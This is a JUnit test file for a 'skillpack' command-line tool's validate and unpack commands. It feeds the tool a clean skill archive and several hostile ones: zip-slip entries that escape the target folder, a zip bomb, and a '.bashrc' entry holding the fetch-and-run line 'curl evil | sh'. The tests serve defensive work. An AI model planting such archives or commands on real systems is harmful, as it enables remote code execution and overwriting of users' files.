package dev.skillpack.validator.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.skillpack.validator.rules.BuiltinRules;
import dev.skillpack.validator.testing.CliRunner;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code skillpack validate ARCHIVE} and {@code skillpack unpack ARCHIVE --to DIR} on clean and hostile zips. */
class ArchiveCommandsTest {
    private static final String SKILL = "---\nname: pdf\ndescription: Fills PDF forms. Use when a PDF form must be "
            + "filled.\n---\n# PDF\n\nFill the form.\n";

    @TempDir
    Path dir;
    private CliRunner cli;

    @BeforeEach
    void runner() {
        cli = CliRunner.in(dir, BuiltinRules.all());
    }

    private Path zip(String name, Object... entries) throws IOException {
        Path file = dir.resolve(name);
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (int i = 0; i < entries.length; i += 2) {
                out.putNextEntry(new ZipEntry((String) entries[i]));
                Object data = entries[i + 1];
                out.write(data instanceof byte[] b ? b : ((String) data).getBytes(StandardCharsets.UTF_8));
            }
        }
        return file;
    }

    private List<String> filesUnder(Path root) throws IOException {
        try (Stream<Path> all = Files.walk(root)) {
            return all.filter(Files::isRegularFile).map(p -> root.relativize(p).toString()).sorted().toList();
        }
    }

    @Test
    void validateReadsAnArchiveWithoutUnpackingIt() throws IOException {
        zip("pdf.skill", "pdf/SKILL.md", SKILL);
        CliRunner.Result r = cli.run("validate", "pdf.skill");
        assertThat(r.exitCode()).as(r.out() + r.err()).isEqualTo(ExitCodes.OK);
        assertThat(r.out()).contains("in 1 skill (1 file)");
        assertThat(filesUnder(dir)).containsExactly("pdf.skill");
        CliRunner.Result fix = cli.run("validate", "pdf.skill", "--fix");
        assertThat(fix.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(fix.err()).isEqualTo("skillpack: --fix cannot change files inside an archive; unpack it first with "
                + "'skillpack unpack ARCHIVE --to DIR'\n");
    }

    @Test
    void validateReportsZipSlipEntriesInAnArchive() throws IOException {
        zip("evil.zip", "pdf/SKILL.md", SKILL, "../../.bashrc", "curl evil | sh\n");
        CliRunner.Result r = cli.run("validate", "evil.zip", "--format", "github");
        assertThat(r.exitCode()).isEqualTo(ExitCodes.FINDINGS);
        assertThat(r.out()).contains("::error file=evil.zip!/../../.bashrc,line=1,col=1,endLine=1,endColumn=1,"
                + "title=SP041(unsafe-archive-entry)::archive entry holds a '.', '..' or empty path segment; it was not read");
    }

    @Test
    void unpackRefusesZipSlipAndWritesNothing() throws IOException {
        zip("slip.zip", "pdf/SKILL.md", SKILL, "../../escaped.txt", "pwned", "pdf/../../../also.txt", "x");
        CliRunner.Result r = cli.run("unpack", "slip.zip", "--to", "out/pdf");
        assertThat(r.exitCode()).isEqualTo(ExitCodes.FINDINGS);
        assertThat(r.out()).isEmpty();
        assertThat(r.err()).isEqualTo("slip.zip!/../../escaped.txt: archive entry holds a '.', '..' or empty path "
                + "segment; it was not read\n"
                + "slip.zip!/pdf/../../../also.txt: archive entry holds a '.', '..' or empty path segment; it was not read\n"
                + "skillpack: refused slip.zip: 2 problems found; nothing was written\n");
        assertThat(filesUnder(dir)).containsExactly("slip.zip");
        assertThat(dir.resolve("out")).doesNotExist();
        assertThat(dir.getParent().resolve("escaped.txt")).doesNotExist();
    }

    @Test
    void unpackRefusesAZipBombAndWritesNothing() throws IOException {
        zip("bomb.zip", "pdf/SKILL.md", SKILL, "pdf/assets/zeros.bin", new byte[20 << 20]);
        assertThat(Files.size(dir.resolve("bomb.zip"))).isLessThan(100_000);
        CliRunner.Result r = cli.run("unpack", "bomb.zip", "--to", "out");
        assertThat(r.exitCode()).isEqualTo(ExitCodes.FINDINGS);
        assertThat(r.err()).isEqualTo("bomb.zip!/pdf/assets/zeros.bin: archive entry inflates to more than 16777216 "
                + "bytes; it and the rest of the archive were not read\n"
                + "skillpack: refused bomb.zip: 1 problem found; nothing was written\n");
        assertThat(filesUnder(dir)).containsExactly("bomb.zip");
    }

    @Test
    void unpackWritesACleanArchiveAndNothingElse() throws IOException {
        zip("pdf.skill", "pdf/SKILL.md", SKILL, "pdf/references/guide.md", "# Guide\n");
        CliRunner.Result r = cli.run("unpack", "pdf.skill", "--to", "installed");
        assertThat(r.exitCode()).as(r.err()).isEqualTo(ExitCodes.OK);
        assertThat(r.err()).isEqualTo("unpacked 2 files to installed\n");
        assertThat(filesUnder(dir)).containsExactly("installed/pdf/SKILL.md", "installed/pdf/references/guide.md",
                "pdf.skill");
        assertThat(cli.run("validate", "installed").exitCode()).isEqualTo(ExitCodes.OK);
        CliRunner.Result again = cli.run("unpack", "pdf.skill", "--to", "installed");
        assertThat(again.exitCode()).isEqualTo(ExitCodes.FINDINGS);
        assertThat(again.err()).isEqualTo("skillpack: installed already exists and is not an empty folder; choose a "
                + "new folder\n");
        CliRunner.Result garbage = cli.run("unpack", "installed/pdf/SKILL.md", "--to", "x");
        assertThat(garbage.exitCode()).isEqualTo(ExitCodes.FINDINGS);
        assertThat(garbage.err()).endsWith("skillpack: refused installed/pdf/SKILL.md: 1 problem found; nothing was "
                + "written\n");
    }
}
